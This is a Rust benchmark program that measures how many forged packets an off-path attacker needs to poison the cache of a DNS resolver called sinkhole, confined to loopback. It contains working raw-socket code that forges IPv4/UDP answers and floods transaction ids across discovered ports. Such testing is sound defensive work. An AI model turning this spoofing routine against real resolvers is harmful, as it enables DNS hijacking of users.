//! spoof: measures how many forged packets an off-path attacker needs to poison sinkhole's cache
//! (RFC 5452), on loopback, against a sinkhole binary it starts itself.
//!
//! ```text
//! cargo run --release -p sinkhole-bench --bin spoof -- --sinkhole target/release/sinkhole [--trials 40]
//!     [--delay-ms 100] [--rate 200000] [--arg --allow-root] [--upstream-extra 'TOML']
//! ```
//!
//! The attacker is given more than a real one has: it reads sinkhole's upstream-facing UDP ports
//! from /proc/net/udp before each trial ("once the upstream port was known"), and the upstream
//! answers each query only after `--delay-ms`, which is the window the attacker floods in. Each
//! trial asks sinkhole for a fresh name (`t<N>-<letters>.spoof.example` A, so nothing is cached)
//! and at once sends forged answers from the upstream's address and port (a raw socket, so the
//! source can be forged): every id in turn, spread over every port found, the name in lowercase
//! (the attacker cannot know a 0x20 case), carrying A 6.6.6.6 with a TTL of a day, at `--rate`
//! packets a second, until the client gets its answer. A trial succeeds when that answer is the
//! forged address. It prints, per binary, successes, forged packets sent, and packets per success
//! (or, with none, the packets sent as a lower bound).
//!
//! Needs root (raw socket). Loopback only: sinkhole, its upstream and every packet stay on
//! 127.0.0.1. The sinkhole it starts forwards to the upstream this program runs and nowhere else.

use std::io::Write;
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4, UdpSocket};
use std::process::{Child, Command, ExitCode, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use socket2::{Domain, Protocol, SockAddr, Socket, Type};

/// The address every forged answer carries: a trial succeeded if the client gets it.
const FORGED: [u8; 4] = [6, 6, 6, 6];
/// The address the real upstream answers with.
const REAL: [u8; 4] = [192, 0, 2, 1];

struct Args {
    sinkhole: String,
    trials: usize,
    delay: Duration,
    rate: u64,
    extra_args: Vec<String>,
    /// Lines added to the `[upstream]` table (`case_randomization = false`, to measure the
    /// ports alone).
    upstream_extra: String,
}

fn main() -> ExitCode {
    match parse_args().and_then(|args| run(&args)) {
        Ok(()) => ExitCode::SUCCESS,
        Err(message) => {
            eprintln!("spoof: {message}");
            ExitCode::FAILURE
        }
    }
}

fn parse_args() -> Result<Args, String> {
    let usage = "usage: spoof --sinkhole BIN [--trials N] [--delay-ms MS] [--rate PPS] [--arg ARG]... \
                 [--upstream-extra TOML]";
    let mut args = Args {
        sinkhole: String::new(),
        trials: 40,
        delay: Duration::from_millis(100),
        rate: 200_000,
        extra_args: Vec::new(),
        upstream_extra: String::new(),
    };
    let mut it = std::env::args().skip(1);
    while let Some(arg) = it.next() {
        let mut value = || it.next().ok_or_else(|| format!("{arg} needs a value\n{usage}"));
        match arg.as_str() {
            "--sinkhole" => args.sinkhole = value()?,
            "--trials" => args.trials = value()?.parse().map_err(|_| "--trials takes a number")?,
            "--delay-ms" => {
                args.delay = Duration::from_millis(value()?.parse().map_err(|_| "--delay-ms takes a number")?)
            }
            "--rate" => args.rate = value()?.parse().map_err(|_| "--rate takes a number")?,
            "--arg" => args.extra_args.push(value()?),
            "--upstream-extra" => args.upstream_extra = value()?,
            _ => return Err(usage.into()),
        }
    }
    if args.sinkhole.is_empty() {
        return Err(usage.into());
    }
    Ok(args)
}

/// A free loopback port, UDP.
fn free_port() -> Result<u16, String> {
    let socket = UdpSocket::bind("127.0.0.1:0").map_err(|e| format!("bind: {e}"))?;
    Ok(socket.local_addr().map_err(|e| e.to_string())?.port())
}

fn run(args: &Args) -> Result<(), String> {
    let upstream = UdpSocket::bind("127.0.0.1:0").map_err(|e| format!("bind the upstream: {e}"))?;
    let upstream_addr = match upstream.local_addr().map_err(|e| e.to_string())? {
        SocketAddr::V4(v4) => v4,
        SocketAddr::V6(_) => return Err("the upstream must be IPv4".into()),
    };
    let stop = Arc::new(AtomicBool::new(false));
    let responder = {
        let stop = Arc::clone(&stop);
        let delay = args.delay;
        thread::spawn(move || serve_late(&upstream, delay, &stop))
    };
    let listen = SocketAddr::from(([127, 0, 0, 1], free_port()?));
    let mut daemon = start_sinkhole(args, listen, upstream_addr)?;
    let result = attack(args, listen, upstream_addr);
    let _ = daemon.kill();
    let _ = daemon.wait();
    stop.store(true, Ordering::Relaxed);
    let _ = responder.join();
    result
}

/// Answers every query with A 192.0.2.1, `delay` late (one thread per answer: the attacker's
/// window must not depend on how many queries wait).
fn serve_late(socket: &UdpSocket, delay: Duration, stop: &AtomicBool) {
    let _ = socket.set_read_timeout(Some(Duration::from_millis(100)));
    let socket = Arc::new(socket.try_clone().expect("clone the upstream socket"));
    let mut buf = [0u8; 4096];
    while !stop.load(Ordering::Relaxed) {
        let Ok((len, peer)) = socket.recv_from(&mut buf) else {
            continue;
        };
        let Some(answer) = answer(&buf[..len], REAL) else {
            continue;
        };
        let socket = Arc::clone(&socket);
        thread::spawn(move || {
            thread::sleep(delay);
            let _ = socket.send_to(&answer, peer);
        });
    }
}

/// An answer to `query` (its id and question as they came) with one A record `address`, TTL a day.
fn answer(query: &[u8], address: [u8; 4]) -> Option<Vec<u8>> {
    let end = question_end(query)?;
    let mut out = query.get(..2)?.to_vec();
    out.extend_from_slice(&[0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0]);
    out.extend_from_slice(query.get(12..end)?);
    out.extend_from_slice(&[0xc0, 12, 0, 1, 0, 1, 0, 1, 0x51, 0x80, 0, 4]);
    out.extend_from_slice(&address);
    Some(out)
}

/// Where the question section of a message ends.
fn question_end(message: &[u8]) -> Option<usize> {
    let mut at = 12;
    loop {
        let len = usize::from(*message.get(at)?);
        at += 1 + len;
        if len == 0 {
            return Some(at + 4).filter(|&end| end <= message.len());
        }
    }
}

fn start_sinkhole(args: &Args, listen: SocketAddr, upstream: SocketAddrV4) -> Result<Child, String> {
    let dir = std::env::temp_dir().join(format!("sinkhole-spoof-{}", std::process::id()));
    std::fs::create_dir_all(&dir).map_err(|e| e.to_string())?;
    let config = dir.join("sinkhole.toml");
    let text = format!(
        "[server]\nlisten = [\"{listen}\"]\nmetrics = \"off\"\nallow = [\"127.0.0.0/8\"]\nthreads = 1\n\
         [upstream]\nservers = [\"{upstream}\"]\ntimeout_ms = 3000\n{}\n[log]\nhits = \"off\"\n\
         [lists.tiktok]\ndomains = [\"tiktok.com\"]\n[[policy]]\nname = \"staff\"\nclients = [\"127.10.0.0/16\"]\n\
         block = [\"tiktok\"]\n",
        args.upstream_extra
    );
    std::fs::write(&config, text).map_err(|e| e.to_string())?;
    let child = Command::new(&args.sinkhole)
        .arg("run")
        .arg("-c")
        .arg(&config)
        .args(&args.extra_args)
        .stdout(Stdio::null())
        .stderr(match std::fs::File::create(dir.join("sinkhole.log")) {
            Ok(file) => Stdio::from(file),
            Err(_) => Stdio::null(),
        })
        .spawn()
        .map_err(|e| format!("start {}: {e}", args.sinkhole))?;
    // Up when it answers a blocked name.
    let client = UdpSocket::bind("127.10.0.9:0").map_err(|e| e.to_string())?;
    client
        .set_read_timeout(Some(Duration::from_millis(100)))
        .map_err(|e| e.to_string())?;
    let probe = query(0x0101, "www.tiktok.com");
    let mut buf = [0u8; 512];
    for _ in 0..100 {
        let _ = client.send_to(&probe, listen);
        if client.recv(&mut buf).is_ok() {
            return Ok(child);
        }
    }
    Err("sinkhole did not start".into())
}

/// A query for `name` A, RD set, no EDNS.
fn query(id: u16, name: &str) -> Vec<u8> {
    let mut out = id.to_be_bytes().to_vec();
    out.extend_from_slice(&[1, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
    for label in name.split('.') {
        out.push(label.len() as u8);
        out.extend_from_slice(label.as_bytes());
    }
    out.extend_from_slice(&[0, 0, 1, 0, 1]);
    out
}

/// sinkhole's UDP sockets connected to `upstream`, from /proc/net/udp: their local ports.
fn upstream_ports(upstream: SocketAddrV4) -> Vec<u16> {
    let remote = format!(
        "{:08X}:{:04X}",
        u32::from_le_bytes(upstream.ip().octets()),
        upstream.port()
    );
    let Ok(table) = std::fs::read_to_string("/proc/net/udp") else {
        return Vec::new();
    };
    table
        .lines()
        .skip(1)
        .filter_map(|line| {
            let mut fields = line.split_whitespace();
            let local = fields.nth(1)?;
            let rem = fields.next()?;
            (rem == remote).then(|| u16::from_str_radix(local.rsplit(':').next()?, 16).ok())?
        })
        .collect()
}

/// A forged IPv4/UDP packet from `from` to `to` carrying `payload` (UDP checksum 0: none, which
/// IPv4 allows; the kernel fills the IP checksum and id).
fn forge(from: SocketAddrV4, to: SocketAddrV4, payload: &[u8]) -> Vec<u8> {
    let total = 20 + 8 + payload.len();
    let mut p = Vec::with_capacity(total);
    p.extend_from_slice(&[0x45, 0]);
    p.extend_from_slice(&(total as u16).to_be_bytes());
    p.extend_from_slice(&[0, 0, 0x40, 0, 64, 17, 0, 0]);
    p.extend_from_slice(&from.ip().octets());
    p.extend_from_slice(&to.ip().octets());
    p.extend_from_slice(&from.port().to_be_bytes());
    p.extend_from_slice(&to.port().to_be_bytes());
    p.extend_from_slice(&((8 + payload.len()) as u16).to_be_bytes());
    p.extend_from_slice(&[0, 0]);
    p.extend_from_slice(payload);
    p
}

fn attack(args: &Args, listen: SocketAddr, upstream: SocketAddrV4) -> Result<(), String> {
    let raw = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::UDP))
        .map_err(|e| format!("raw socket (needs root): {e}"))?;
    raw.set_header_included_v4(true).map_err(|e| e.to_string())?;
    let client = UdpSocket::bind("127.20.0.9:0").map_err(|e| e.to_string())?;
    client.set_nonblocking(true).map_err(|e| e.to_string())?;
    let (mut successes, mut sent_total, mut ports_seen) = (0usize, 0u64, 0usize);
    let mut buf = [0u8; 4096];
    for trial in 0..args.trials {
        let name = format!("t{trial}-abcdefghij.spoof.example");
        let ports = upstream_ports(upstream);
        // The first trial's query opens the sockets: it only teaches the attacker the ports.
        let _ = client.send_to(&query(trial as u16, &name), listen);
        let ports = if ports.is_empty() {
            thread::sleep(Duration::from_millis(10));
            upstream_ports(upstream)
        } else {
            ports
        };
        ports_seen = ports_seen.max(ports.len());
        if ports.is_empty() {
            return Err("no sinkhole socket connected to the upstream in /proc/net/udp".into());
        }
        let forged = answer(&query(0, &name), FORGED).ok_or("forged answer")?;
        let started = Instant::now();
        let mut sent = 0u64;
        let mut id = rand::random::<u16>();
        let got = 'flood: loop {
            for _ in 0..256 {
                let port = ports[(sent % ports.len() as u64) as usize];
                let mut payload = forged.clone();
                payload[..2].copy_from_slice(&id.to_be_bytes());
                let target = SocketAddrV4::new(Ipv4Addr::LOCALHOST, port);
                let packet = forge(upstream, target, &payload);
                let _ = raw.send_to(&packet, &SockAddr::from(target));
                sent += 1;
                if sent.is_multiple_of(ports.len() as u64) {
                    id = id.wrapping_add(1);
                }
            }
            // Paced to --rate.
            let due = Duration::from_secs_f64(sent as f64 / args.rate as f64);
            if let Some(wait) = due.checked_sub(started.elapsed()) {
                thread::sleep(wait);
            }
            if let Ok(len) = client.recv(&mut buf) {
                break 'flood buf[..len].to_vec();
            }
            if started.elapsed() > Duration::from_secs(5) {
                break 'flood Vec::new();
            }
        };
        sent_total += sent;
        let poisoned = got.len() >= 4 && got[got.len() - 4..] == FORGED;
        successes += usize::from(poisoned);
        print!("{}", if poisoned { 'X' } else { '.' });
        let _ = std::io::stdout().flush();
    }
    println!();
    println!(
        "{}: {} trials, {} poisoned, {} forged packets sent, up to {} ports seen",
        args.sinkhole, args.trials, successes, sent_total, ports_seen
    );
    match successes {
        0 => println!("forged packets per success: more than {sent_total} (none succeeded)"),
        n => println!("forged packets per success: {}", sent_total / n as u64),
    }
    Ok(())
}
